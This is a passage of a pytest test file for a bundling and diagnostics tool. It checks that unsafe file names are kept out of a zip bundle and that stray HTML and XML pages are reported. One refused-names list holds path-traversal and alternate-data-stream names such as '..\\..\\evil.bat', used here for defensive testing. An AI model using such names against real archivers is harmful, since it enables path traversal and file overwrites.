    assert (answer.code, answer.err.count("\n"), Path("run.zip").exists()) == (2, 1, False), answer.err
    run = run.rename(run.with_name("sound"))
    refused = ("..\\..\\evil.bat", "C:evil.bat", "a.png:evil.bat", "nul.png", "COM1 .png", "con", "a?.png", "a.png.")
    for file in (*refused, "console.com1.png"):
        (run / "pictures" / file).write_text("")
    write_manifest(run, {})
    ask("open", run, "--bundle", "run.zip")
    assert "sound/pictures/console.com1.png" in zipfile.ZipFile("run.zip").namelist()
    assert not {f"sound/pictures/{file}" for file in refused} & set(zipfile.ZipFile("run.zip").namelist())


@pytest.mark.parametrize(
    "page",
    first_of(
        [
            "leases/report.html",
            "local/a.HTML",
            ".hidden/a.xhtml",
            ".a.htm",
            "preview/a/b.HTML",
            ".old/a.xht",
            "engine/a.XML",
            "engine/a.mht",
        ],
        3,
    ),
)
def test_pages_in_folders_that_no_manifest_lists_are_named(
    page: str, run_copy: Path, ask: Asking, monkeypatch: pytest.MonkeyPatch
) -> None:
    (run_copy / page).parent.mkdir(parents=True, exist_ok=True)
    (run_copy / page).write_text("<h1>No shortcut was found.</h1>")
    write_manifest(run_copy, {})
    monkeypatch.setenv("XDG_STATE_HOME", str(run_copy.parent / "of another user"))
    assert str(run_copy / page) in ask("doctor", run_copy).out


@pytest.mark.parametrize("page", [".old/report.html", "engine/report.xht", "engine/a/report.xml", "local/report.html"])
def test_pages_that_were_put_into_a_folder_of_this_user_are_named(page: str, run_copy: Path, ask: Asking) -> None:
    before = ask("doctor", run_copy).out
    assert "not compared" not in before
    (run_copy / page).parent.mkdir(parents=True, exist_ok=True)
    (run_copy / page).write_text("<h1>No shortcut was found.</h1>")
    said = ask("doctor", run_copy).out
    assert f"{run_copy / page}: no table gives what is in them, so they were not compared" in " ".join(said.split())
